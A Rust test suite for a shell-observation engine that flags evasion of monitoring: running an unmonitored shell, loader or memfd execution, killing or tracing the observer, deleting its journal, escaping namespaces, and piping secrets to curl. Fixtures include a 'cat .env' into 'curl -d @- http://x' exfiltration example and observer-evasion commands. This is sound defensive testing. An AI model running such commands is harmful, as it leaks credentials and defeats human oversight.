//! Every rule finds what it is for, and nothing in honest work.

use nash_correlator::findings::{Assurance, EventRef, Finding, FindingRule};
use nash_correlator::{Engine, FindingRules};
use nash_events::Batch;
use serde_json::{Value, json};

use crate::events::{SHELL, batch, element, exec, shell_end, shell_start, with};
use crate::kernel::{Observed, shell_process};

/// A shell that runs as process 100, with these events between its start and its end.
fn shell(events: &[Value]) -> Batch {
    let mut all = vec![shell_start(1, &shell_process(100))];
    all.extend_from_slice(events);
    all.push(shell_end(all.len() as u64 + 1, 0));
    batch(SHELL, None, &all)
}

/// The observer saw the shell begin, from nash's own file.
pub(crate) fn watched() -> Observed {
    Observed::default().fork(900, 50, 100).event(
        902,
        100,
        "exec",
        &json!({"path": "/usr/bin/bash", "argv": ["bash"], "dev": 1, "ino": 7, "assurance": {"image": "nash"}}),
    )
}

/// Below command 1, which runs as process 201, a program of this kind ran as process 202.
pub(crate) fn ran(fields: &Value) -> Observed {
    let base = json!({"path": "/x", "argv": ["x"], "dev": 1, "ino": 99});
    watched()
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/env", "env")
        .fork(1012, 201, 202)
        .event(1012, 202, "exec", &with(base, fields))
        .exit(1013, 202, 0)
        .exit(1013, 201, 0)
        .exit(2000, 100, 0)
}

pub(crate) fn run(seq: u64, cmd: u64, words: &str) -> Value {
    exec(seq, cmd, words, &json!({}))
}

pub(crate) fn findings_of(batches: &[Batch], rules: FindingRules) -> Vec<Finding> {
    let mut engine = Engine::new();
    engine.set_finding_rules(rules);
    for batch in batches {
        engine.push(batch);
    }
    engine.story().findings
}

fn find(events: &[Value], seen: &Observed) -> Vec<Finding> {
    findings_of(&[shell(events), seen.batch()], FindingRules::default())
}

/// The rules that found something, with what it rests on.
fn rules(findings: &[Finding]) -> Vec<(FindingRule, Assurance)> {
    findings.iter().map(|finding| (finding.rule, finding.assurance)).collect()
}

#[track_caller]
pub(crate) fn check(seen: &Observed, expect: FindingRule) -> Finding {
    let found = find(&[run(2, 1, "env")], seen);
    assert_eq!(rules(&found), [(expect, Assurance::Proved)], "{found:#?}");
    let finding = found.into_iter().next().unwrap();
    assert!(matches!(finding.evidence[0], EventRef::Kernel { .. }), "{finding:#?}");
    assert_eq!(finding.shell_id.as_ref().unwrap().as_str(), SHELL);
    finding
}

#[track_caller]
pub(crate) fn check_nothing(events: &[Value], seen: &Observed) {
    let found = find(events, seen);
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_real_shell_is_found_by_the_observers_word_by_name_and_by_hash() {
    check(&ran(&json!({"assurance": {"image": "preserved"}})), FindingRule::RealShellExec);
    let finding = check(&ran(&json!({"path": "/usr/bin/bash.real", "argv": ["innocent"]})), FindingRule::RealShellExec);
    assert!(finding.sentence.ends_with("/usr/bin/bash.real, as innocent"), "{}", finding.sentence);
    let mut rules = FindingRules::default();
    rules.extend("[[preserved]]\nsha256 = \"abcd\"\n").unwrap();
    let found = findings_of(&[shell(&[run(2, 1, "env")]), ran(&json!({"sha256": "abcd"})).batch()], rules);
    assert_eq!(found[0].rule, FindingRule::RealShellExec);
}

#[test]
fn a_link_to_a_real_shell_is_the_same_file() {
    let seen = ran(&json!({"path": "/tmp/link", "dev": 1, "ino": 8})).event(
        1900,
        100,
        "open",
        &json!({"path": "/usr/bin/bash.real", "flags": 0, "result": 3, "dev": 1, "ino": 8}),
    );
    check(&seen, FindingRule::RealShellExec);
}

#[test]
fn a_copy_of_a_real_shell_is_known_by_who_wrote_it() {
    let seen = ran(&json!({"path": "/tmp/copy", "dev": 1, "ino": 300}))
        .event(1011, 201, "open", &json!({"path": "/usr/bin/bash.real", "flags": 0, "result": 3, "dev": 1, "ino": 8}))
        .event(1011, 201, "open", &json!({"path": "/tmp/copy", "flags": 0o101, "result": 4, "dev": 1, "ino": 300}));
    assert_eq!(check(&seen, FindingRule::RealShellExec).evidence.len(), 2);
}

/// The files of a copy and of what was made from it.
pub(crate) fn file(path: &str, ino: u64, more: &Value) -> Value {
    with(json!({"path": path, "argv": ["x"], "dev": 1, "ino": ino, "result": 3}), more)
}

/// A real shell is copied to `/w/a`; then another program runs as process 202, and opens these.
fn copied_and_then(opened: &[Value]) -> Observed {
    let then = watched()
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/cp", "cp /usr/bin/bash.real a")
        .read(1012, 201, "/usr/bin/bash.real")
        .event(1012, 201, "open", &file("/w/a", 300, &json!({"flags": 0o301})))
        .exit(1013, 201, 0)
        .fork(1020, 100, 202)
        .exec(1021, 202, "/usr/bin/next", "next");
    opened.iter().fold(then, |seen, open| seen.event(1022, 202, "open", open)).exit(1023, 202, 0).fork(1030, 100, 203)
}

#[test]
fn a_copy_of_a_copy_is_known_and_a_name_that_is_used_again_is_none() {
    let told = [run(2, 1, "cp /usr/bin/bash.real a"), run(3, 2, "next"), run(4, 3, "x")];
    let read = file("/w/a", 300, &json!({"flags": 0}));
    let chain = copied_and_then(&[read, file("/w/b", 301, &json!({"flags": 0o301}))]);
    let chain = chain.event(1031, 203, "exec", &file("/w/b", 301, &json!({}))).exit(1032, 203, 0).exit(2000, 100, 0);
    let found = findings_of(&[shell(&told), chain.batch()], FindingRules::default());
    assert!(matches!(&found[..], [finding] if finding.rule == FindingRule::RealShellExec), "{found:#?}");
    let again = copied_and_then(&[file("/w/a", 300, &json!({"flags": 0o1101}))]);
    let again = again.event(1031, 203, "exec", &file("/w/a", 300, &json!({}))).exit(1032, 203, 0).exit(2000, 100, 0);
    check_nothing(&told, &again);
}

#[test]
fn reading_a_real_shell_and_a_fallback_to_it_are_honest() {
    let cat = watched()
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/cat", "cat /usr/bin/bash.real")
        .read(1012, 201, "/usr/bin/bash.real")
        .exit(1013, 201, 0)
        .exit(2000, 100, 0);
    check_nothing(&[run(2, 1, "cat /usr/bin/bash.real")], &cat);
    let fallback =
        json!({"kind": "fallback", "seq": 2, "ts": 1001.0, "reason": "parse-error", "shell": "/usr/bin/bash.real"});
    let handed = watched()
        .event(
            1002,
            100,
            "exec",
            &json!({"path": "/usr/bin/bash.real", "argv": ["bash"], "assurance": {"image": "preserved"}}),
        )
        .fork(1003, 100, 300)
        .exec(1004, 300, "/usr/bin/ls", "ls")
        .exit(1005, 300, 0)
        .exit(1010, 100, 0);
    let told = batch(SHELL, None, &[shell_start(1, &shell_process(100)), fallback]);
    let found = findings_of(&[told, handed.batch()], FindingRules::default());
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_real_shell_in_the_shells_place_without_a_fallback_is_found() {
    let seen = watched().exec(1002, 100, "/usr/bin/bash.real", "bash").exit(1010, 100, 0);
    let told = batch(SHELL, None, &[shell_start(1, &shell_process(100))]);
    let found = findings_of(&[told, seen.batch()], FindingRules::default());
    assert_eq!(rules(&found), [(FindingRule::RealShellExec, Assurance::Proved)]);
}

#[test]
fn other_shells_are_found_and_the_systems_own_are_not() {
    for (path, argv) in [
        ("/usr/bin/zsh", json!(["zsh", "-c", "id"])),
        ("/usr/bin/busybox", json!(["busybox", "sh"])),
        ("/bin/busybox", json!(["ash"])),
        ("/tmp/bash", json!(["bash"])),
    ] {
        check(&ran(&json!({"path": path, "argv": argv})), FindingRule::ForeignShell);
    }
    for (path, argv) in [("/usr/bin/dash", json!(["sh", "-c", "x"])), ("/bin/busybox", json!(["busybox", "ls"]))] {
        check_nothing(&[run(2, 1, "env")], &ran(&json!({"path": path, "argv": argv})));
    }
}

#[test]
fn the_systems_own_shells_that_ran_beside_nash_are_counted_in_coverage() {
    let mut engine = Engine::new();
    engine.push(&shell(&[run(2, 1, "env")]));
    engine.push(&ran(&json!({"path": "/usr/bin/dash", "argv": ["sh", "-c", "x"]})).batch());
    let coverage = engine.story().coverage;
    assert_eq!(coverage.shells_beside.into_iter().collect::<Vec<_>>(), [("/usr/bin/dash".to_owned(), 1)]);
}

#[test]
fn a_shell_through_the_loader_from_memory_or_without_a_name_is_found() {
    let loader = json!({"path": "/usr/lib/ld-linux-x86-64.so.2", "argv": ["ld.so", "/tmp/bash", "-c", "id"]});
    check(&ran(&loader), FindingRule::LoaderExec);
    check(&ran(&json!({"path": "/memfd:x", "argv": ["x"], "memfd": true})), FindingRule::LoaderExec);
    check(&ran(&json!({"path": "/tmp/gone", "argv": ["bash"], "deleted": true})), FindingRule::LoaderExec);
    let library = json!({"path": "/usr/lib/ld-linux-x86-64.so.2", "argv": ["ld.so", "--list", "/usr/bin/ls"]});
    check_nothing(&[run(2, 1, "env")], &ran(&library));
}

#[test]
fn a_nash_that_tells_nothing_is_found_and_the_kill_switch_more_so() {
    let nash = json!({"path": "/usr/bin/bash", "argv": ["bash", "-c", "id"], "dev": 1, "ino": 7});
    check(&ran(&nash), FindingRule::ObserverDisabled);
    let asked = with(nash.clone(), &json!({"argv": ["bash", "--version"]}));
    check_nothing(&[run(2, 1, "env")], &ran(&asked));
    let mut seen = ran(&nash);
    let real = json!({"path": "/usr/bin/bash.real", "argv": ["bash", "-c", "id"], "assurance": {"image": "preserved"}});
    seen = seen.event(1012, 202, "exec", &real);
    let found = find(&[run(2, 1, "env")], &seen);
    let mut found: Vec<FindingRule> = found.iter().map(|finding| finding.rule).collect();
    found.sort();
    assert_eq!(found, [FindingRule::RealShellExec, FindingRule::ObserverDisabled]);
}

#[test]
fn a_session_that_the_operator_switched_off_is_no_finding() {
    let nash = json!({"path": "/usr/bin/bash", "argv": ["bash"], "dev": 1, "ino": 7, "assurance": {"image": "nash"}});
    let real = json!({"path": "/usr/bin/bash.real", "argv": ["bash"], "assurance": {"image": "preserved"}});
    let seen =
        Observed::default().fork(10, 50, 60).event(11, 60, "exec", &nash).event(12, 60, "exec", &real).exit(20, 60, 0);
    let found = findings_of(&[seen.batch()], FindingRules::default());
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn killing_or_tracing_a_shell_above_is_an_attack_and_ending_a_child_is_not() {
    let kill = |signal: i32, target: u32| json!({"signal": signal, "targetPid": target, "targetStartTicks": u64::from(target) * 10, "result": 0});
    check(&ran(&json!({})).event(1013, 202, "kill", &kill(9, 100)), FindingRule::ObserverAttacked);
    check(&ran(&json!({})).event(1013, 202, "kill", &kill(19, 100)), FindingRule::ObserverAttacked);
    let trace = json!({"via": "ptrace", "request": 16, "targetPid": 100, "targetStartTicks": 1000, "result": -1});
    let finding = check(&ran(&json!({})).event(1013, 202, "ptrace", &trace), FindingRule::ObserverAttacked);
    assert!(finding.sentence.contains("tried to, but could not"), "{}", finding.sentence);
    for memory in ["/proc/100/mem", "/proc/100/task/100/mem"] {
        let open = |flags: i32| json!({"path": memory, "pathSource": "kernel", "flags": flags, "result": 3});
        check(&ran(&json!({})).event(1013, 202, "open", &open(2)), FindingRule::ObserverAttacked);
        check_nothing(&[run(2, 1, "env")], &ran(&json!({})).event(1013, 202, "open", &open(0)));
    }
    let of_a_child = json!({"path": "/proc/202/mem", "pathSource": "kernel", "flags": 2, "result": 3});
    check_nothing(&[run(2, 1, "env")], &ran(&json!({})).event(1013, 201, "open", &of_a_child));
    check_nothing(&[run(2, 1, "env")], &ran(&json!({})).event(1013, 201, "kill", &kill(9, 202)));
    check_nothing(&[run(2, 1, "env")], &ran(&json!({})).event(1013, 202, "kill", &kill(15, 100)));
}

#[test]
fn whoever_writes_or_removes_the_spool_is_found_and_nash_itself_is_not() {
    let spooled = watched().write(1001, 100, "/spool/aaaaaaaa-1.journal");
    check_nothing(&[], &spooled.clone().exit(2000, 100, 0));
    let removed = spooled
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/rm", "rm")
        .event(1012, 201, "unlink", &json!({"path": "/spool/aaaaaaaa-1.journal", "result": 0}))
        .exit(1013, 201, 0)
        .exit(2000, 100, 0);
    check(&removed, FindingRule::ObserverAttacked);
}

#[test]
fn the_directory_of_the_spool_and_journals_that_a_shell_handed_over_are_its_own_business() {
    let own = watched()
        .event(1001, 100, "mkdir", &json!({"path": "/spool", "result": 0}))
        .write(1002, 100, "/spool/aaaaaaaa-1.journal")
        .event(1003, 100, "unlink", &json!({"path": "/spool/0123456789abcdef0123456789abcdef.journal", "result": 0}));
    check_nothing(&[], &own.exit(2000, 100, 0));
}

#[test]
fn a_journal_that_was_made_and_whose_shell_told_nothing_is_a_gap_and_who_removed_it_an_attack() {
    let journal = "/spool/0123456789abcdef0123456789abcdef.journal";
    let made = json!({"path": journal, "pathSource": "kernel", "flags": 0o102_302, "result": 3});
    let too_early = json!({"path": journal, "pathSource": "user", "flags": 0o102_302, "result": -2});
    let seen = Observed::default()
        .exec(1000, 100, "/usr/bin/nash", "nash -c x")
        .event(1001, 100, "open", &too_early)
        .event(1002, 100, "open", &made)
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/rm", "rm")
        .event(1012, 201, "unlink", &json!({"path": journal, "result": 0}))
        .exit(1013, 201, 0)
        .exit(2000, 100, 0);
    let found = findings_of(&[seen.batch()], FindingRules::default());
    assert_eq!(
        rules(&found),
        [(FindingRule::Gap, Assurance::Proved), (FindingRule::ObserverAttacked, Assurance::Proved)]
    );
}

#[test]
fn a_signal_for_an_observer_outside_every_session_is_an_attack() {
    let kill = json!({"signal": 18, "targetPid": 7, "targetStartTicks": 70, "result": 0});
    let seen = |who: &str| {
        ran(&json!({}))
            .event(1000, 7, "present", &json!({"path": format!("/usr/sbin/{who}"), "argv": [who], "comm": who}))
            .event(1013, 202, "kill", &kill)
    };
    check(&seen("nash-ebpf"), FindingRule::ObserverAttacked);
    check_nothing(&[run(2, 1, "env")], &seen("cron"));
}

#[test]
fn a_child_that_the_shell_never_reported_is_found_where_every_word_of_it_came() {
    let seen =
        watched().fork(1500, 100, 300).exec(1501, 300, "/usr/bin/id", "id").exit(1502, 300, 0).exit(2000, 100, 0);
    let found = find(&[], &seen);
    assert_eq!(rules(&found), [(FindingRule::UnreportedExec, Assurance::Proved)]);
    let dropped = json!({"kind": "dropped", "seq": 2, "count": 1, "byKind": {"exec": 1}, "reason": "journal-full"});
    assert_eq!(rules(&find(&[dropped], &seen)), [(FindingRule::Gap, Assurance::Claimed)]);
    // A subshell of the shell's own, and what helps it, runs no program.
    check_nothing(&[], &watched().fork(1500, 100, 300).exit(1501, 300, 0).exit(2000, 100, 0));
}

#[test]
fn a_reported_child_that_the_kernel_never_saw_is_found_where_nothing_of_its_stream_is_missing() {
    let seen = watched().exit(2000, 100, 0);
    assert_eq!(rules(&find(&[run(2, 1, "ls")], &seen)), [(FindingRule::PhantomExec, Assurance::Claimed)]);
    let lost = json!({"count": 3, "byKind": {"fork": 3}, "reason": "ring-full"});
    let mut gappy = seen;
    gappy.events.push(with(lost, &json!({"kind": "lost", "seq": 4})));
    assert_eq!(rules(&find(&[run(2, 1, "ls")], &gappy)), [(FindingRule::Gap, Assurance::Proved)]);
}

#[test]
fn every_known_loss_is_a_gap() {
    let told = batch(SHELL, None, &[shell_start(1, &json!({})), shell_end(7, 0)]);
    let found = findings_of(&[told], FindingRules::default());
    assert_eq!(rules(&found), [(FindingRule::Gap, Assurance::Claimed)]);
    assert!(found[0].sentence.contains("5 events (#2-#6)"), "{}", found[0].sentence);
}

#[test]
fn who_leaves_for_a_pid_namespace_a_control_group_or_outlives_everybody_has_escaped() {
    let unshare = json!({"via": "unshare", "flags": 0x2000_0000, "result": 0});
    check(&ran(&json!({})).event(1013, 202, "namespace", &unshare), FindingRule::Escaped);
    let moved = ran(&json!({"cgroup": 4})).event(1013, 202, "open", &json!({"path": "/w/x", "result": 3, "cgroup": 5}));
    check(&moved, FindingRule::Escaped);
    let daemon = watched()
        .fork(1010, 100, 201)
        .exec(1011, 201, "/usr/bin/setsid", "setsid")
        .fork(1012, 201, 202)
        .exec(1012, 202, "/usr/bin/daemon", "daemon")
        .exit(1013, 201, 0)
        .exit(2000, 100, 0);
    check(&daemon, FindingRule::Escaped);
    check_nothing(&[run(2, 1, "env")], &daemon.exit(2100, 202, 0));
    // What the shell itself put in the background is where the script wanted it.
    let server = watched().fork(1010, 100, 201).exec(1011, 201, "/usr/bin/env", "env").exit(2000, 100, 0);
    check_nothing(&[run(2, 1, "env")], &server);
}

#[test]
fn masked_data_on_its_way_into_a_network_command_is_found_and_a_token_among_its_words_is_not() {
    let place = |index| json!({"pipeline": element("p1", index, 2)});
    let events = [
        shell_start(1, &json!({})),
        exec(2, 1, "cat .env", &place(0)),
        exec(3, 2, "curl -d @- http://x", &place(1)),
        json!({"kind": "pipe", "seq": 4, "ts": 1100.0, "pipelineId": "p1", "fromIndex": 0, "toIndex": 1, "bytes": 40,
            "redacted": ["aws-access-token"]}),
        exec(5, 3, "curl http://x", &json!({"redacted": ["bearer"]})),
        shell_end(6, 0),
    ];
    let found = findings_of(&[batch(SHELL, None, &events)], FindingRules::default());
    assert_eq!(rules(&found), [(FindingRule::SecretFlow, Assurance::Claimed)]);
    assert!(found[0].sentence.contains("aws-access-token"), "{}", found[0].sentence);
}

#[test]
fn without_the_kernels_word_what_the_shell_says_itself_is_claimed() {
    let events = [
        shell_start(1, &json!({})),
        exec(2, 1, "bash.real -c id", &json!({"resolvedPath": "/usr/bin/bash.real"})),
        exec(3, 2, "zsh -c id", &json!({"resolvedPath": "/usr/bin/zsh"})),
        json!({"kind": "tamper", "seq": 4, "cmd": 3, "what": "unset NUCLEIC_SHELL_ID"}),
        json!({"kind": "tamper", "seq": 5, "cmd": 4, "what": "wrote /spool/x"}),
        shell_end(6, 0),
    ];
    let found = findings_of(&[batch(SHELL, None, &events)], FindingRules::default());
    let mut names: Vec<&str> = found.iter().map(|finding| finding.rule.as_str()).collect();
    names.sort_unstable();
    assert_eq!(names, ["foreign-shell", "observer-attacked", "observer-disabled", "real-shell-exec"]);
    assert!(found.iter().all(|finding| finding.assurance == Assurance::Claimed), "{found:#?}");
}

#[test]
fn findings_are_in_the_story_by_the_ids_of_their_events() {
    let finding = check(&ran(&json!({"path": "/usr/bin/bash.real"})), FindingRule::RealShellExec);
    let json = serde_json::to_value(&finding).unwrap();
    assert_eq!(json["id"], "real-shell-exec:o-1:6");
    assert_eq!(json["evidence"][0], json!({"observerId": "o-1", "seq": 6}));
    assert_eq!((&json["severity"], &json["assurance"], &json["cmd"]), (&json!("high"), &json!("proved"), &json!(1)));
}
